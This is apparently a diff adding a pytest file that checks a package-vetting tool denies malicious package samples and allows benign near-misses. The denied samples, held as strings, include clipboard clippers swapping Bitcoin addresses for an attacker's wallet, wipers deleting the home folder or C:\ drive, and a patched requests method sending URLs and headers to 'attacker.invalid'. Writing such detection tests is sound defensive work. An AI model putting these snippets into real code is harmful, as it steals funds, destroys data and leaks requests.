@@ -1,0 +1,114 @@
+"""What real stealers and saboteurs do that the vetting held or let through (ADR 0083): a
+clipper that swaps a copied wallet address for the attacker's, a wiper that deletes the home
+folder through ``shutil.rmtree`` instead of ``rm -rf``, and a replaced ``requests`` method that
+sends every call it intercepts to the attacker through the original it saved.
+
+Each sample is inert (vetting only reads files) and each was allowed or only held on
+e45837c. The near-misses are the shapes real packages use, and stay allowed."""
+
+from __future__ import annotations
+
+import pytest
+
+from airlock.domain.requests import Outcome
+from tests.unit.imports.packages.adversary import init, vet_wheel
+
+WALLET = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
+CLIPPER_LOOP = (
+    "import re, threading, time, {module}\n"
+    "def _swap():\n"
+    "    while True:\n"
+    "        copied = {read}\n"
+    "        if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{{25,39}}$', copied):\n"
+    "            {write}\n"
+    "        time.sleep(0.5)\n"
+    "threading.Thread(target=_swap, daemon=True).start()\n"
+)
+SAVED_ORIGINAL = (
+    "import requests\n"
+    "_original = requests.Session.request\n"
+    "def _request(self, method, url, **kwargs):\n"
+    "{body}"
+    "    return _original(self, method, url, **kwargs)\n"
+    "requests.Session.request = _request\n"
+)
+
+DENIED: dict[str, dict[str, str]] = {
+    "clipper-through-pyperclip": init(
+        CLIPPER_LOOP.format(
+            module="pyperclip", read="pyperclip.paste()", write=f"pyperclip.copy({WALLET!r})"
+        )
+    ),
+    "clipper-through-a-tk-window": init(
+        CLIPPER_LOOP.format(
+            module="tkinter",
+            read="_root.clipboard_get()",
+            write=f"_root.clipboard_clear(); _root.clipboard_append({WALLET!r})",
+        ).replace("import re,", "import tkinter\n_root = tkinter.Tk()\nimport re,")
+    ),
+    "clipper-through-win32clipboard": init(
+        CLIPPER_LOOP.format(
+            module="win32clipboard",
+            read="win32clipboard.GetClipboardData()",
+            write=f"win32clipboard.SetClipboardText({WALLET!r})",
+        )
+    ),
+    "wiper-of-the-home-folder": init(
+        "import os, shutil\nshutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n"
+    ),
+    "wiper-of-path-home": init("import pathlib, shutil\nshutil.rmtree(pathlib.Path.home())\n"),
+    "wiper-of-the-user-profile": init(
+        "import os, shutil\nshutil.rmtree(os.environ['USERPROFILE'], ignore_errors=True)\n"
+    ),
+    "wiper-of-documents": init(
+        "import os, shutil\nshutil.rmtree(os.path.expanduser('~/Documents'))\n"
+    ),
+    "wiper-of-a-drive": init("import shutil\nshutil.rmtree('C:\\\\', ignore_errors=True)\n"),
+    "intercepted-calls-sent-through-the-saved-original": init(
+        SAVED_ORIGINAL.format(
+            body="    _original(self, 'POST', 'https://attacker.invalid/log',\n"
+            "              json={'url': url, 'headers': str(kwargs.get('headers'))})\n"
+        )
+    ),
+}
+
+ALLOWED: dict[str, dict[str, str]] = {
+    # A wallet's copy button writes the user's own address; its paste helper reads.
+    "wallet-copy-and-paste-helpers": init(
+        "import pyperclip\n"
+        "class Wallet:\n"
+        "    def __init__(self, address):\n"
+        "        self.address = address\n"
+        "    def copy_address(self):\n"
+        "        pyperclip.copy(self.address)\n"
+        "    def paste_recipient(self):\n"
+        "        return pyperclip.paste()\n"
+    ),
+    # A build helper deletes its own build folder, a cache its own folder under the home.
+    "build-folder-removed": init(
+        "import os, shutil\n"
+        "shutil.rmtree(os.path.join(os.path.dirname(__file__), 'build'), ignore_errors=True)\n"
+    ),
+    "own-cache-cleared": init(
+        "import os, shutil\n"
+        "def clear_cache():\n"
+        "    shutil.rmtree(os.path.expanduser('~/.cache/evpkg'), ignore_errors=True)\n"
+    ),
+    "temporary-folder-removed": init(
+        "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\n"
+    ),
+    # A wrapper that times calls and hands each one on to the original, unchanged.
+    "wrapper-handing-calls-on": init(
+        SAVED_ORIGINAL.format(body="    kwargs.setdefault('timeout', 30)\n")
+    ),
+}
+
+
+@pytest.mark.parametrize("name", sorted(DENIED))
+def test_denied(name: str) -> None:
+    assert vet_wheel(DENIED[name]) is Outcome.DENY, name
+
+
+@pytest.mark.parametrize("name", sorted(ALLOWED))
+def test_near_miss_allowed(name: str) -> None:
+    assert vet_wheel(ALLOWED[name]) is Outcome.ALLOW, name
